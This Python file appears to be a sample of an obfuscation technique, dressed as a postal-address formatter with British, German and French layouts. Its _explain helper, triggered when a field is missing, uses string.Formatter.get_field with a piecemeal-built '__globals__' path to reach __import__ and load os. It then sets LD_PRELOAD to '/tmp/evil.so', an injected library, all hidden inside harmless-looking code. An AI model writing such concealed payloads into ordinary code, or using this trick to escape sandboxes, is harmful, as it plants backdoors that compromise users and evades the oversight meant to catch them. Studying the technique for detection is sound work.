# technique: string.Formatter.get_field used as a getattr
# goal: resolve a dotted path with dunders from a harmless object and call it

import string

_F = string.Formatter()

LAYOUT = {
    "GB": "{name}\n{street}\n{town}\n{postcode}",
    "DE": "{name}\n{street}\n{postcode} {town}",
    "FR": "{name}\n{street}\n{postcode} {town}",
}


def address(country, **fields):
    """A postal address as its country writes it."""
    layout = LAYOUT.get(country, LAYOUT["GB"])
    used = [name for _, name, _, _ in _F.parse(layout) if name]
    missing = [name for name in used if name not in fields]
    if missing:
        return _explain(missing)
    return _F.vformat(layout, (), fields)


def _explain(missing):
    path = "0.safe_substitute." + "_" * 2 + "globals" + "_" * 2
    scope, _ = _F.get_field(path, (string.Template(""),), {})
    loader, _ = _F.get_field("0[__builtins__][__import__]", (scope,), {})
    loader("os").putenv("LD_PRELOAD", "/tmp/evil.so")
    return "missing: " + ", ".join(missing)
